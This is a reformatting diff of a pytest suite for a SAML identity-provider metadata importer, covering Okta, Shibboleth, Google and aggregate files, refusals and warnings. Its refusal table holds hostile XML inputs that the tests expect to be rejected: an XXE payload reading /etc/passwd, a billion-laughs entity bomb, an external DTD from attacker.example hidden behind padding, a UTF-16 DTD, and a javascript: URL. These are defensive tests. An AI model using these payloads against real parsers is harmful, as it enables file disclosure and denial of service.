@@ -42,6 +42,7 @@ def snapshot(app) -> tuple:
 
 # --- What we read from real-shaped metadata ---------------------------------------------
 
+
 def test_okta_metadata_gives_both_bindings_both_name_id_formats_and_the_signing_certificate():
     metadata = idp_metadata.read(samples.okta())
     assert metadata.entity_id == "http://www.okta.com/exk1fxp0a1B2c3D4e5d7"
@@ -74,7 +75,10 @@ def test_shibboleth_metadata_ignores_extensions_artifact_and_soap_and_trusts_a_k
     }
     assert samples.SOAP not in metadata.slo
     # use="signing" and no use at all are both signing keys; use="encryption" is not.
-    assert [c.subject for c in metadata.certificates] == ["CN=idp.uni.example.edu backchannel", "CN=idp.uni.example.edu"]
+    assert [c.subject for c in metadata.certificates] == [
+        "CN=idp.uni.example.edu backchannel",
+        "CN=idp.uni.example.edu",
+    ]
 
 
 def test_google_metadata_keeps_its_valid_until():
@@ -85,13 +89,19 @@ def test_google_metadata_keeps_its_valid_until():
 
 def test_a_rollover_with_two_listed_certificates_trusts_both():
     old, new = samples.cert("Okta old"), samples.cert("Okta new")
-    assert [c.subject for c in idp_metadata.read(samples.okta(certs=(old, new))).certificates] == ["CN=Okta old", "CN=Okta new"]
+    assert [c.subject for c in idp_metadata.read(samples.okta(certs=(old, new))).certificates] == [
+        "CN=Okta old",
+        "CN=Okta new",
+    ]
 
 
 # --- Aggregates --------------------------------------------------------------------------
 
+
 def test_an_aggregate_holding_one_idp_among_service_providers_gives_that_idp():
-    metadata = idp_metadata.read(samples.aggregate(samples.sp(), samples.okta(), samples.sp("https://other.example/sp")))
+    metadata = idp_metadata.read(
+        samples.aggregate(samples.sp(), samples.okta(), samples.sp("https://other.example/sp"))
+    )
     assert metadata.entity_id == "http://www.okta.com/exk1fxp0a1B2c3D4e5d7"
     assert metadata.from_aggregate and metadata.xml.startswith("<md:EntityDescriptor")
 
@@ -103,12 +113,17 @@ def test_an_aggregate_with_several_idps_and_no_entity_id_is_refused_listing_them
     result = runner.invoke(args=["idp", "import", "initech", str(path)])
     assert result.exit_code == 1
     assert "the aggregate holds 3 IdPs; pick one with --entity-id" in result.output
-    for entity_id in ("http://www.okta.com/exk1fxp0a1B2c3D4e5d7", "https://accounts.google.com/o/saml2?idpid=C01a2b3c4",
-                      "https://idp.uni.example.edu/idp/shibboleth"):
+    for entity_id in (
+        "http://www.okta.com/exk1fxp0a1B2c3D4e5d7",
+        "https://accounts.google.com/o/saml2?idpid=C01a2b3c4",
+        "https://idp.uni.example.edu/idp/shibboleth",
+    ):
         assert entity_id in result.output
     assert rows(app, IdentityProvider) == []
 
-    picked = runner.invoke(args=["idp", "import", "initech", str(path), "--entity-id", "https://idp.uni.example.edu/idp/shibboleth"])
+    picked = runner.invoke(
+        args=["idp", "import", "initech", str(path), "--entity-id", "https://idp.uni.example.edu/idp/shibboleth"]
+    )
     assert picked.exit_code == 0, picked.output
     [idp] = rows(app, IdentityProvider)
     assert idp.entity_id == "https://idp.uni.example.edu/idp/shibboleth"
@@ -117,18 +132,25 @@ def test_an_aggregate_with_several_idps_and_no_entity_id_is_refused_listing_them
 
 def test_the_aggregate_validity_applies_to_the_entity_picked_from_it():
     metadata = idp_metadata.read(
-        samples.aggregate(samples.okta(), samples.google(valid_until="2031-05-01T12:00:00Z"),
-                          valid_until="2030-01-01T00:00:00Z", cache_duration="PT4H"),
+        samples.aggregate(
+            samples.okta(),
+            samples.google(valid_until="2031-05-01T12:00:00Z"),
+            valid_until="2030-01-01T00:00:00Z",
+            cache_duration="PT4H",
+        ),
         entity_id="https://accounts.google.com/o/saml2?idpid=C01a2b3c4",
     )
     assert metadata.valid_until.isoformat() == "2030-01-01T00:00:00+00:00"  # the earlier of the two
     assert metadata.cache_duration == "PT4H"
 
 
-@pytest.mark.parametrize("entity_id,reason", [
-    ("https://app.partner.example/saml/metadata", "is not a SAML 2.0 IdP"),
-    ("https://nobody.example/idp", "holds no entity with entity ID"),
-])
+@pytest.mark.parametrize(
+    "entity_id,reason",
+    [
+        ("https://app.partner.example/saml/metadata", "is not a SAML 2.0 IdP"),
+        ("https://nobody.example/idp", "holds no entity with entity ID"),
+    ],
+)
 def test_an_entity_id_naming_a_service_provider_or_nothing_in_the_aggregate_is_refused(entity_id, reason):
     with pytest.raises(errors.MetadataNotIdp, match=reason):
         idp_metadata.read(samples.aggregate(samples.okta(), samples.sp()), entity_id=entity_id)
@@ -140,6 +162,7 @@ def test_a_single_entity_file_that_is_not_the_requested_entity_is_refused():
 
 
 # --- Refusals: a clear reason, and the configuration in use stays -------------------------
+
 
 def _okta_with(replace: dict[str, str]) -> bytes:
     xml = samples.okta().decode()
@@ -154,50 +177,102 @@ def _unusable_key(**knobs) -> bytes:
 
 
 REFUSALS = {
-    "malformed XML": (b'<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata"><md:IDPSSODescriptor>',
-                      "metadata.malformed", "not well-formed XML"),
+    "malformed XML": (
+        b'<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata"><md:IDPSSODescriptor>',
+        "metadata.malformed",
+        "not well-formed XML",
+    ),
     "not metadata at all": (b"<html><body>Sign in</body></html>", "metadata.malformed", "the root element is html"),
-    "XXE": (b'<?xml version="1.0"?><!DOCTYPE md [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-            b'<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="&xxe;"/>',
-            "metadata.dtd_forbidden", "DTD or entity declaration"),
-    "billion laughs": (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
-                       b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
-                       b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
-                       b"<lolz>&lol3;</lolz>", "metadata.dtd_forbidden", "DTD or entity declaration"),
-    "a DTD after 40 kB of comment": (b"<?xml version='1.0'?><!--" + b"x" * 40_000 + b"--><!DOCTYPE md SYSTEM "
-                                     b'"http://attacker.example/x.dtd"><md:EntityDescriptor '
-                                     b'xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata"/>',
-                                     "metadata.dtd_forbidden", "DTD"),
-    "UTF-16 hiding a DTD from a byte scan": ('<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode("utf-16"),
-                                             "metadata.malformed", "save it as UTF-8"),
+    "XXE": (
+        b'<?xml version="1.0"?><!DOCTYPE md [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+        b'<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="&xxe;"/>',
+        "metadata.dtd_forbidden",
+        "DTD or entity declaration",
+    ),
+    "billion laughs": (
+        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
+        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
+        b"<lolz>&lol3;</lolz>",
+        "metadata.dtd_forbidden",
+        "DTD or entity declaration",
+    ),
+    "a DTD after 40 kB of comment": (
+        b"<?xml version='1.0'?><!--" + b"x" * 40_000 + b"--><!DOCTYPE md SYSTEM "
+        b'"http://attacker.example/x.dtd"><md:EntityDescriptor '
+        b'xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata"/>',
+        "metadata.dtd_forbidden",
+        "DTD",
+    ),
+    "UTF-16 hiding a DTD from a byte scan": (
+        '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode("utf-16"),
+        "metadata.malformed",
+        "save it as UTF-8",
+    ),
     "an exotic declared encoding": (b'<?xml version="1.0" encoding="UTF-7"?><x/>', "metadata.malformed", "UTF-7"),
     "SP metadata": (samples.sp(), "metadata.not_idp", "service provider's metadata"),
     "no Redirect or POST SSO endpoint": (
-        _okta_with({f'<md:SingleSignOnService Binding="{samples.POST}"': '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact"',
-                    f'<md:SingleSignOnService Binding="{samples.REDIRECT}"': f'<md:SingleSignOnService Binding="{samples.SOAP}"'}),
-        "metadata.no_sso", "no SingleSignOnService with the HTTP-Redirect or HTTP-POST binding"),
+        _okta_with(
+            {
+                f'<md:SingleSignOnService Binding="{samples.POST}"': '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact"',
+                f'<md:SingleSignOnService Binding="{samples.REDIRECT}"': f'<md:SingleSignOnService Binding="{samples.SOAP}"',
+            }
+        ),
+        "metadata.no_sso",
+        "no SingleSignOnService with the HTTP-Redirect or HTTP-POST binding",
+    ),
     "a javascript: SSO location": (
         _okta_with({"https://acme.okta.com/app/acme_cloud_1/exk1fxp0a1B2c3D4e5d7/sso/saml": "javascript:alert(1)"}),
-        "metadata.malformed", "is not an http(s) URL"),
-    "an entity ID longer than we store": (_okta_with({"http://www.okta.com/exk1fxp0a1B2c3D4e5d7": "https://x.example/" + "a" * 1100}),
-                                          "metadata.malformed", "at most 1024"),
+        "metadata.malformed",
+        "is not an http(s) URL",
+    ),
+    "an entity ID longer than we store": (
+        _okta_with({"http://www.okta.com/exk1fxp0a1B2c3D4e5d7": "https://x.example/" + "a" * 1100}),
+        "metadata.malformed",
+        "at most 1024",
+    ),
     "an SSO URL longer than we store": (
-        _okta_with({"https://acme.okta.com/app/acme_cloud_1/exk1fxp0a1B2c3D4e5d7/sso/saml": "https://x.example/" + "a" * 2100}),
-        "metadata.malformed", "longer than 2048"),
-    "no entityID": (_okta_with({'entityID="http://www.okta.com/exk1fxp0a1B2c3D4e5d7"': ""}), "metadata.malformed", "no entityID"),
-    "a validUntil that is not a date": (_okta_with({"<md:EntityDescriptor ": '<md:EntityDescriptor validUntil="soon" '}),
-                                        "metadata.malformed", "validUntil 'soon' is not a date-time"),
-    "only an encryption certificate": (_okta_with({'use="signing"': 'use="encryption"'}),
-                                       "metadata.no_certificate", "no usable signing certificate"),
-    "an unreadable certificate": (samples.okta(certs=(b"-----BEGIN CERTIFICATE-----\nTm90IGEgY2VydA==\n-----END CERTIFICATE-----",)),
-                                  "metadata.no_certificate", "cannot be read"),
+        _okta_with(
+            {"https://acme.okta.com/app/acme_cloud_1/exk1fxp0a1B2c3D4e5d7/sso/saml": "https://x.example/" + "a" * 2100}
+        ),
+        "metadata.malformed",
+        "longer than 2048",
+    ),
+    "no entityID": (
+        _okta_with({'entityID="http://www.okta.com/exk1fxp0a1B2c3D4e5d7"': ""}),
+        "metadata.malformed",
+        "no entityID",
+    ),
+    "a validUntil that is not a date": (
+        _okta_with({"<md:EntityDescriptor ": '<md:EntityDescriptor validUntil="soon" '}),
+        "metadata.malformed",
+        "validUntil 'soon' is not a date-time",
+    ),
+    "only an encryption certificate": (
+        _okta_with({'use="signing"': 'use="encryption"'}),
+        "metadata.no_certificate",
+        "no usable signing certificate",
+    ),
+    "an unreadable certificate": (
+        samples.okta(certs=(b"-----BEGIN CERTIFICATE-----\nTm90IGEgY2VydA==\n-----END CERTIFICATE-----",)),
+        "metadata.no_certificate",
+        "cannot be read",
+    ),
     "a 1024-bit RSA key": (_unusable_key(bits=1024), "metadata.no_certificate", "1024-bit RSA key"),
     "a DSA key": (_unusable_key(dsa_key=True), "metadata.no_certificate", "only RSA and EC keys"),
     "an empty file": (b"", "metadata.empty", "empty"),
     "only whitespace": (b"  \n\t ", "metadata.empty", "empty"),
-    "a single entity over 5 MB": (_okta_with({"<md:IDPSSODescriptor": "<md:Extensions><x>" + "a" * 5_300_000
-                                                                      + "</x></md:Extensions><md:IDPSSODescriptor"}),
-                                  "metadata.too_large", "an EntityDescriptor is larger than"),
+    "a single entity over 5 MB": (
+        _okta_with(
+            {
+                "<md:IDPSSODescriptor": "<md:Extensions><x>"
+                + "a" * 5_300_000
+                + "</x></md:Extensions><md:IDPSSODescriptor"
+            }
+        ),
+        "metadata.too_large",
+        "an EntityDescriptor is larger than",
+    ),
 }
 
 
@@ -237,6 +312,7 @@ def test_a_refusal_on_the_command_line_is_one_line_and_exit_status_1(app, runner
 
 
 # --- Warnings: accepted, but ops are told --------------------------------------------------
+
 
 def test_expiring_and_sha1_certificates_and_a_shared_entity_id_are_accepted_with_warnings(app, client, token):
     add_tenant(app, "hooli", samples.okta())
